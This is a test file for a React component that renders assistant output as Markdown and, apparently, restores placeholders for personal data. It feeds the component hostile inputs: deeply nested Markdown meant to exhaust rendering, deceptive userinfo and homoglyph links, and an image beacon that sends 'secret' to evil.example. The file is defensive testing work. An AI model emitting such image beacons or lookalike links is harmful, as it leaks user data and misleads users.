// @vitest-environment happy-dom
import { MantineProvider } from '@mantine/core'
import { fireEvent, render, screen } from '@testing-library/react'
import { expect, it } from 'vitest'
import '../../testing/render-screen'
import { PlaceholderMap } from '../../../assistant/shield/placeholders'
import { SafeMarkdown } from './SafeMarkdown'

const show = (text: string) =>
  render(
    <MantineProvider>
      <SafeMarkdown text={text} map={new PlaceholderMap()} passages={[]} />
    </MantineProvider>,
  ).container

it.each([
  ['nested quotations', `${'>'.repeat(5000)} void`],
  ['nested lists', `${'- '.repeat(3000)} void`],
  [
    'nested indented lists',
    Array.from({ length: 400 }, (_, at) => `${'  '.repeat(at)}- void`).join('\n'),
  ],
  ['nested stars', `${'*'.repeat(30_000)}void${'*'.repeat(30_000)}`],
  ['wide tables', `${'|'.repeat(2000)}\n${'|-'.repeat(2000)}|\n${'| void\n'.repeat(2000)}`],
  ['links that never close', `${'[a]('.repeat(20_000)} **void**`],
  ['addresses that never close', `${'[a](<b'.repeat(20_000)} **void**`],
  ['nested emphasis', `${'*a **b '.repeat(4000)}void${'** c*'.repeat(4000)}`],
])('shows %s without end as the text that they are', (_, text) => {
  const container = show(text)
  expect(container).toHaveTextContent('void')
  expect(container.querySelector('blockquote, ul, em, strong, table')).toBeNull()
})

it('shows an image as its words, and asks nobody for it', () => {
  const container = show(
    '![void](https://evil.example/?q=secret) <img src="https://evil.example/">',
  )
  expect(container).toHaveTextContent('void')
  expect(container.querySelector('img')).toBeNull()
})

it('reads a long answer with many lists as Markdown', () => {
  const text = '1. **One** month, *not* two\n   - see **§ 573c**\n'.repeat(100)
  expect(show(text).querySelectorAll('strong')).toHaveLength(200)
})

it('shows a table as one, and a name that came back as one cell', () => {
  const map = new PlaceholderMap([
    { id: 'COMPANY_1', kind: 'COMPANY', key: 'ab', value: 'A | B <b>Ltd</b>' },
  ])
  const text = '| Term | Party |\n|---|---:|\n| **Notice** | [COMPANY_1] |\n\nafter'
  const { container } = render(
    <MantineProvider>
      <SafeMarkdown text={text} map={map} passages={[]} />
    </MantineProvider>,
  )
  const cells = [...container.querySelectorAll('th, td')].map((cell) => cell.textContent)
  expect(cells).toEqual(['Term', 'Party', 'Notice', 'A | B <b>Ltd</b>'])
  expect(container.querySelector('table strong')).toHaveTextContent('Notice')
  expect(container.querySelector('table b')).toBeNull()
})

it('opens no address that names another host first, and shows the one it opens as it is asked', async () => {
  const container = show(
    '[bank](https://bank.example@evil.example/) [court](https://xn--80ak6aa92e.example/) [law](https://аррӏе.example/)',
  )
  const leading = [...container.querySelectorAll('a, button')]
  expect(leading.map(({ textContent }) => textContent)).toEqual(['court', 'law'])
  fireEvent.click(leading[1] as Element)
  expect(await screen.findByText('https://xn--80ak6aa92e.example/')).toBeInTheDocument()
})

it.each([
  ['as it is', '[more](https://law.example/?q=[PERSON_1])'],
  ['in pointed brackets', '[more](<https://law.example/?q=[PERSON_1]>)'],
  ['behind a stray per cent sign', '[more](<https://law.example/?x=%zz&q=[PERSON_1]>)'],
  ['behind half a letter', '[more](<https://law.example/?q=%E4[PERSON_2]>)'],
  ['without a title', '<https://law.example/?q=[EMAIL_1]>'],
  ['defined elsewhere', '[more][1]\n\n[1]: https://law.example/[EMAIL_1]'],
])('leads nowhere with a name that came back %s', (_, text) => {
  const map = new PlaceholderMap([
    { id: 'PERSON_1', kind: 'PERSON', key: 'a', value: 'Ann Ström-O’Hara' },
    { id: 'PERSON_2', kind: 'PERSON', key: 'b', value: 'Эмма' },
    { id: 'EMAIL_1', kind: 'EMAIL', key: 'c', value: 'ann.s@firm.example' },
  ])
  const { container } = render(
    <MantineProvider>
      <SafeMarkdown
        text={`[the act](https://law.example/573c) and ${text}`}
        map={map}
        passages={[]}
      />
    </MantineProvider>,
  )
  const leading = [...container.querySelectorAll('a, button')].map(({ textContent }) => textContent)
  expect(leading).toEqual(['the act'])
})
